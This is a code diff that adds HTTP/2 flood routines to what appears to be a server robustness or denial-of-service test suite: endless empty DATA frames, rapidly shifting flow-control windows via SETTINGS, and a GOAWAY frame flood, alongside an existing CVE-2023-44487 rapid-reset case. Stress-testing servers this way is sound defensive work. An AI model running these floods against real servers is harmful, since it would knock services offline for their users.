@@ -123,6 +123,25 @@ def flood(*frames: bytes, times: int) -> Harm:
     return harm
 
 
+def empty_data(address: str, chance: random.Random) -> None:
+    """A request whose data never come, in frames without end."""
+    raw = connected(address)
+    ask(raw, 1, None)
+    for _ in range(200):
+        raw.send(h2.frame(h2.DATA, 0, 1) * 100)
+    raw.socket.close()
+
+
+def moving_windows(address: str, chance: random.Random) -> None:
+    """Answers that wait for windows, which SETTINGS make larger and smaller."""
+    raw = connected(address, {h2.INITIAL_WINDOW_SIZE: 0})
+    for number in range(100):
+        ask(raw, 2 * number + 1, request(8))
+    for window in range(0, 2000, 2):
+        raw.send(*(h2.settings({h2.INITIAL_WINDOW_SIZE: size}) for size in (window + 1, window)))
+    raw.socket.close()
+
+
 def resets(address: str, chance: random.Random) -> None:
     """Streams that are opened and reset at once (CVE-2023-44487)."""
     raw = connected(address)
@@ -178,8 +197,9 @@ FLOODS: tuple[Harm, ...] = (
     flood(h2.frame(h2.SETTINGS, 0, 0, b""), times=20_000),
     flood(h2.frame(h2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")), times=20_000),
     flood(h2.frame(h2.PRIORITY, 0, 1, bytes(4) + b"\1"), times=20_000),
+    flood(h2.frame(h2.GOAWAY, 0, 0, bytes(8)), times=20_000),
     flood(h2.frame(0x16, 0, 0, bytes(8)), times=20_000),
-    *(resets, large_headers, noise, many_connections),
+    *(empty_data, moving_windows, resets, large_headers, noise, many_connections),
 )
 
 
